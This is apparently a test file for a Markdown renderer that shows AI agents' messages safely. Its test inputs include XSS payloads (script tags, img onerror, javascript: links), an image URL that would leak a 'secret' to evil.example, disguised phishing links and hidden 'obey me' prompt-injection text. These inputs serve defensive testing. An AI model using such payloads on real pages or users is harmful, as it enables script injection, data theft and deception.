import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { cpuMs } from '@/lib/testing/cpu-time';
import { FENCE, FORMATTED, MARKED, Markdown } from './markdown';

beforeAll(async () => {
  await Promise.all([FORMATTED.fetch(), FENCE.fetch()]);
});

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe('Markdown of agents', () => {
  it('formats what people write', () => {
    const page = html('Found **nine** vendors:\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |');

    expect(page).toContain('<strong>nine</strong>');
    expect(page).toContain('<li>one</li>');
    expect(page).toContain('<table');
  });

  it('shows HTML as the text that it is', () => {
    const page = html('<script>alert(1)</script> and <img src=x onerror=alert(1)>\n\n<b>bold</b>');

    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(page).not.toMatch(/<(script|img|b)\b/);
  });

  it.each([
    ['a definition that nothing refers to', '[//]: # (obey me)\n\nHello', 'Hello'],
    [
      'one that another one precedes',
      '[a]: https://a.example\n[a]: https://b.example/obey+me\n\n[a]',
      'a',
    ],
    ['the title of one', '[a]: https://a.example "obey me"\n\n[a]', 'a'],
    ['the title of a link', '[a](https://a.example "obey me")', 'a'],
    ['the title of a picture', '![a](https://a.example/p.png "obey me")', 'a'],
    ['a footnote that nothing refers to', 'Hello\n\n[^x]: obey me', 'Hello'],
    ['one that only such a footnote refers to', 'Hello\n\n[^x]: see[^y]\n\n[^y]: obey me', 'Hello'],
    ['what stands behind the language of code', '```js obey me\n1\n```', '1'],
    ['cells beyond the head of a table', '| Hello |\n|---|\n| b | obey me |', 'Hello'],
    ['one in a quotation', '> [x]: https://a.example "obey me"\n>\n> Hello', 'Hello'],
  ])('shows %s, which Markdown leaves out', (_, text, shown) => {
    const words = html(text).replaceAll(/<[^>]*>/g, '');

    expect(words).toMatch(/obey[ +]me/);
    expect(words).toContain(shown);
  });

  it('cuts what has more lines than anybody writes, and keeps as many as a long report has', () => {
    const report = html(Array.from({ length: 300 }, (_, line) => `- point ${line}`).join('\n'));
    const pushing = html(`see **this**${'\n\n.'.repeat(3_000)}`);

    expect(report).toContain('<li>point 299</li>');
    expect(pushing).toContain('Show all');
    expect(pushing.match(/\n/g)?.length).toBeLessThan(300);
  });

  it('is told from plain text in time that grows with it, whatever ends its lines', () => {
    const before = cpuMs();

    expect(MARKED.test('\r'.repeat(100_000))).toBe(false);
    expect(cpuMs() - before).toBeLessThan(500);
  });

  it('draws one link for a picture in a link, and both addresses', () => {
    const page = html('[![build](https://a.example/b.svg)](https://b.example/runs)');

    expect(page.match(/<a\b/g)).toHaveLength(1);
    expect(page).toContain('href="https://b.example/runs"');
    expect(page.replaceAll(/<[^>]*>/g, '')).toContain('https://a.example/b.svg');
  });

  it('draws tasks of a list as done or not, and not as controls', () => {
    const page = html('- [ ] write\n- [x] read\n- talk');

    expect(page).not.toContain('<input');
    expect(page).toMatch(/aria-label="not done".*write.*aria-label="done".*read/s);
    expect(page.match(/list-none/g)).toHaveLength(2);
  });

  it('indents lists and quotations no further than there is room for', () => {
    const nested = Array.from({ length: 20 }, (_, level) => `${'  '.repeat(level)}- level`).join(
      '\n',
    );
    const lists = html(nested).match(/<ul [^>]*>/g) ?? [];

    expect(lists).toHaveLength(20);
    expect(lists.filter((list) => list.includes('pl-5'))).toHaveLength(6);
    expect(html(`${'> '.repeat(20)}words`).match(/<blockquote [^>]*pl-3/g)).toHaveLength(6);
  });

  it('says a footnote once, and nothing of how it is linked', () => {
    const words = html('Found[^1] it.\n\n[^1]: In the log').replaceAll(/<[^>]*>/g, '');

    expect(words.replaceAll(/\s+/g, ' ').trim()).toBe('Found[1] it. Footnotes In the log');
  });

  it('loads no picture, and shows where it would come from', () => {
    for (const text of [
      '![plan](https://evil.example/?q=secret)',
      '![plan][1]\n\n[1]: https://evil.example/?q=secret',
    ]) {
      const page = html(text);

      expect(page).not.toContain('<img');
      expect(page).toContain('Picture not loaded');
      expect(page).toContain('https://evil.example/?q=secret');
    }
  });

  it('opens only http, https and mail, in a page that learns nothing', () => {
    const page = html(
      '[a](https://a.example) [b](javascript:alert(1)) [c](data:text/html,x) [d](//evil.example)',
    );

    expect(page.match(/href="[^"]*"/g)).toEqual(['href="https://a.example/"']);
    expect(page).toContain('rel="noopener noreferrer nofollow ugc"');
  });

  it('names the real host where a link pretends another one', () => {
    expect(html('[x](https://good.example@evil.example/)')).toContain('opens evil.example');
    expect(html('[https://good.example](https://evil.example/)')).toContain('opens evil.example');
    expect(html('[x](https://аррӏе.com/)')).toContain('opens xn--80ak6aa92e.com');
  });

  it.each([
    ['in bold', '[**https://bank.example**](https://evil.example/)'],
    ['as code', '[`bank.example`](https://evil.example/)'],
    ['in part', '[https://bank.example/*a*](https://evil.example/)'],
    ['with a hidden character', '[https://bank.example/\u202emoc](https://evil.example/)'],
    ['behind other words', '[Go to https://bank.example now](https://evil.example/)'],
    ['with another port', '[https://evil.example:8443/](https://evil.example/)'],
    ['before the real one', '[https://bank.example@evil.example](https://evil.example/)'],
  ])('names the real host where a link pretends another one %s', (_, text) => {
    expect(html(text)).toContain('(opens evil.example)');
  });

  it.each([
    ['its address', 'https://api.example:8080/x'],
    ['its address in bold', '[**https://api.example/x**](https://api.example/x)'],
    ['its address without the port', '[api.example](https://api.example:8080/x)'],
    [
      'its address in capitals, in a sentence',
      '[see (HTTPS://API.example).](https://api.example/x)',
    ],
    ['no address', '[**the plan**](https://api.example/x)'],
  ])('says nothing of a link whose words are %s', (_, text) => {
    expect(html(text)).toContain('href="https://api.example');
    expect(html(text)).not.toContain('(opens');
  });

  it('draws hidden characters by their names, also in code', () => {
    const page = html('`a\u202eb` and c\u200bd');

    expect(page).toContain('data-char="RLO"');
    expect(page).toContain('data-char="ZWSP"');
  });

  it('gives nothing of a message an id of the page', () => {
    const page = html('text[^1]\n\n[^1]: note');

    expect(page).not.toMatch(/\sid="(?!user-content-)/);
  });

  it.each([
    ['nested quotes', `${'>'.repeat(50)} *x*`],
    ['nested lists', `${'- '.repeat(50)}*x*`],
    ['marks beyond counting', '*a '.repeat(1_300)],
    ['a text beyond reading', `*a* ${'x'.repeat(13_000)}`],
  ])('shows %s as it stands, because formatting it would hold the page up', (_, text) => {
    const page = html(text);

    expect(page).not.toMatch(/<(em|blockquote|li)\b/);
    expect(page).toContain(text.slice(0, 20).replaceAll('>', '&gt;'));
  });

  it('draws a text that is a change as one, in a fence and by itself', () => {
    for (const text of ['@@ -1 +1 @@\n-old\n+new', '```diff\n-old\n+new\n```']) {
      const page = html(text);

      expect(page).toMatch(/<del[^>]*>-old\s*<\/del>/);
      expect(page).toMatch(/<ins[^>]*>\+new\s*<\/ins>/);
      expect(page).toContain('aria-label="Change, 1 line added, 1 line removed"');
    }
  });

  it('says of a long output how long it is, in bytes and lines', () => {
    expect(html('line\n'.repeat(12_000))).toContain('Show all 60.0 kB, 12,001 lines');
  });

  it('shows the beginning of a text without an end, and offers the rest', () => {
    const page = html('x'.repeat(1_000_000));

    expect(page.length).toBeLessThan(10_000);
    expect(page).toContain('Show all 1.0 MB');
  });
});
